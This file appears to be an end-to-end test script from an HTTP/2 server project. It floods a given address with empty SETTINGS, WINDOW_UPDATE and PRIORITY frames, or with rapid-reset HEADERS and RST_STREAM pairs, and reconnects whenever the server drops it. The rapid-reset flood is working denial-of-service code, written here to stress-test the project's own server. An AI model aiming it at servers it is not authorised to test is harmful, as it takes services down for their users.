"""python tests/e2e/flood.py KIND SECONDS ADDRESS: one connection after the other, full of frames without work.

A separate program, so that it takes no time from the other load. It prints the megabytes sent and the connections.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import sys
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING

sys.path[:0] = [str(Path(__file__).parents[2]), str(Path(__file__).parents[1])]

from hostile import HEADERS, PREFACE, frame  # noqa: E402 (found by the path above)

if TYPE_CHECKING:
    from collections.abc import Iterator

_HEADERS, _PRIORITY, _RESET, _SETTINGS, _WINDOW_UPDATE = 1, 2, 3, 4, 8
_AT_ONCE = 1000  # frames


def _resets() -> Iterator[bytes]:
    for first in itertools.count(1, 2 * _AT_ONCE):
        streams = range(first, first + 2 * _AT_ONCE, 2)
        yield b"".join(frame(_HEADERS, 4, n, HEADERS) + frame(_RESET, 0, n, b"\0\0\0\x08") for n in streams)


def frames(kind: str) -> Iterator[bytes]:
    """Yield the frames of a connection after its preface, without end."""
    same = {
        "settings": frame(_SETTINGS, 0, 0, b""),
        "window-update": frame(_WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"),
        "priority": frame(_PRIORITY, 0, 1, b"\0\0\0\0\x10"),
    }
    return _resets() if kind == "rapid-reset" else itertools.repeat(same[kind] * _AT_ONCE)


def _discard(peer: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while peer.recv(65536):
            pass


def main(kind: str, seconds: float, host: str, port: int) -> None:
    """Flood until the time is over; connect again if the server ends the connection."""
    until, sent, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        connections += 1
        with contextlib.suppress(OSError), socket.create_connection((host, port), 10) as peer:
            reader = threading.Thread(target=_discard, args=(peer,), daemon=True)
            reader.start()
            peer.sendall(PREFACE)
            for chunk in frames(kind):
                peer.sendall(chunk)
                sent += len(chunk)
                if time.monotonic() > until:
                    break
        time.sleep(0.01)
    print(f"{sent / 1e6:.0f} MB on {connections} connections")


if __name__ == "__main__":
    _host, _, _port = sys.argv[3].rpartition(":")
    main(sys.argv[1], float(sys.argv[2]), _host, int(_port))
